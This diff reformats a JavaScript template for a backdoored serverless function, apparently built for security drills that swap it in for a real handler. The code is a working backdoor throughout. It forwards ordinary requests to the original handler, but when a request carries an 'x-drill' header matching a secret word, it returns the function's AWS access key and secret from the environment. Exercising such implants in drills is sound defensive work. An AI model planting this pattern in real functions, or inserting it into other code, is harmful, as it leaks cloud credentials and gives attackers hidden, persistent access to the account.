@@ -1,10 +1,14 @@
-// What an attacker with the right to deploy leaves in a function: it still works, and whoever knows the word gets its session.
-// A drill puts this in place of index.mjs, with a word of its own, and the real code beside it.
+// What an attacker with the right to deploy leaves in a function: it still works, and whoever knows
+// the word gets its session. A drill puts this in place of index.mjs, with a word of its own, and
+// the real code beside it.
 import { handler as original } from './original.mjs';
 
 const word = '{word}';
 
-const knows = (headers) => Object.entries(headers ?? {}).some(([name, value]) => name.toLowerCase() === 'x-drill' && value === word);
+const knows = (headers) =>
+  Object.entries(headers ?? {}).some(
+    ([name, value]) => name.toLowerCase() === 'x-drill' && value === word,
+  );
 
 const session = () => ({
   accessKeyId: process.env.AWS_ACCESS_KEY_ID,
@@ -14,5 +18,9 @@ const session = () => ({
 
 export const handler = async (event, context) =>
   knows(event.headers)
-    ? { statusCode: 200, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(session()) }
+    ? {
+        statusCode: 200,
+        headers: { 'Content-Type': 'application/json' },
+        body: JSON.stringify(session()),
+      }
     : original(event, context);
